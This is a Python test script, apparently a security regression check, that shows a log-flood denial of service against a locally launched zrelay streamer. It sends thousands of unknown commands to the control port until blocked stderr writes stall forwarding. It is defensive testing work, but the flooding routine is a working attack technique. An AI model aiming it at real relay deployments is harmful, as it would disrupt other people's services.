#!/usr/bin/python3
"""Log flood: a hostile control peer sends unknown commands; each is
logged as a warning (at the default level), without any rate limit. With
zrelay's stderr going to a pipe that is slow or stalled (a supervisor,
journald under load, a full terminal), the relay thread blocks in
write(2) and stops forwarding: a control peer stalls the data path.

usage: attack_logflood.py ZRELAY [COMMANDS]
Exit 1 when the streamer stops forwarding while its stderr pipe is full.
"""
import os
import subprocess
import sys
import time

import zmq


def main():
    zrelay = sys.argv[1]
    n = int(sys.argv[2]) if len(sys.argv) > 2 else 20000
    base = int(os.environ.get("ATTACK_PORT", "6900"))
    fe, be, ctl = ["tcp://127.0.0.1:%d" % (base + i) for i in range(3)]
    # stderr: a pipe nobody reads (as a stalled log collector would).
    relay = subprocess.Popen([zrelay, "streamer", "@" + fe, "@" + be,
                              "--control", "@" + ctl],
                             stdout=subprocess.DEVNULL,
                             stderr=subprocess.PIPE)
    ctx = zmq.Context()
    push = ctx.socket(zmq.PUSH)
    push.connect(fe)
    pull = ctx.socket(zmq.PULL)
    pull.connect(be)
    time.sleep(1)
    push.send(b"before")
    if not pull.poll(3000):
        print("relay not forwarding at start")
        return 1
    pull.recv()
    d = ctx.socket(zmq.DEALER)
    d.linger = 0
    d.sndhwm = 0
    d.connect(ctl)
    for i in range(n):
        d.send_multipart([b"", b"NOSUCHCOMMAND-" + b"x" * 200])
    time.sleep(2)
    push.send(b"after")
    ok = pull.poll(5000)
    relay.kill()
    relay.wait()
    print("after %d unknown control commands (stderr pipe not read): "
          "streamer forwards: %s" % (n, ok))
    if not ok:
        print("FAIL: the data path stopped: the relay thread is blocked "
              "writing warnings to stderr")
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
